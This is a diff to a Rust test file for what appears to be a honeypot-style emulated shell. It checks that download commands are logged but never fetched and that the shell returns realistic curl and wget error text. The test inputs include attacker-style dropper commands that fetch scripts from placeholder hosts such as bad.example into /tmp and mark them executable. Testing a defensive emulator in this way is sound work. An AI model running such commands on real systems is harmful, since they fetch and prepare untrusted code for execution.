@@ -96,12 +96,28 @@ fn answers_identity_and_system_commands() {
 #[test]
 fn downloads_are_reported_never_fetched() {
     let mut sh = Shell::new("root", "srv01", "pw");
-    let curl = sh.run("curl -s -o /tmp/x http://203.0.113.9:8080/x.sh", false);
+    let curl = sh.run("curl -sS -o /tmp/x http://203.0.113.9:8080/x.sh", false);
     assert_eq!(
-        curl.output,
-        b"curl: (6) Could not resolve host: 203.0.113.9\n".to_vec()
+        String::from_utf8(curl.output).unwrap(),
+        "curl: (7) Failed to connect to 203.0.113.9 port 8080 after 0 ms: Couldn't connect to server\n"
     );
-    assert_eq!(curl.status, 6);
+    assert_eq!(curl.status, 7);
+    let quiet = sh.run(
+        "curl -fsSL http://bad.example/x; curl -s http://bad.example/x",
+        false,
+    );
+    assert_eq!(
+        String::from_utf8(quiet.output).unwrap(),
+        "curl: (6) Could not resolve host: bad.example\n"
+    );
+    assert_eq!((quiet.status, quiet.effects.len()), (6, 2));
+    let ip = sh.run("wget http://198.51.100.4/a", false);
+    let text = String::from_utf8(ip.output).unwrap();
+    assert!(
+        text.ends_with("  http://198.51.100.4/a\nConnecting to 198.51.100.4:80... failed: Network is unreachable.\n"),
+        "{text}"
+    );
+    assert_eq!(sh.run("wget -q http://198.51.100.4/a", false).output, b"");
     assert_eq!(
         curl.effects,
         vec![Effect::Download {
@@ -110,7 +126,7 @@ fn downloads_are_reported_never_fetched() {
         }]
     );
     let wget = sh.run(
-        "cd /tmp; wget -q http://bad.example/a.sh -O a.sh; chmod +x a.sh",
+        "cd /tmp; wget http://bad.example/a.sh -O a.sh; chmod +x a.sh",
         false,
     );
     let text = String::from_utf8(wget.output).unwrap();
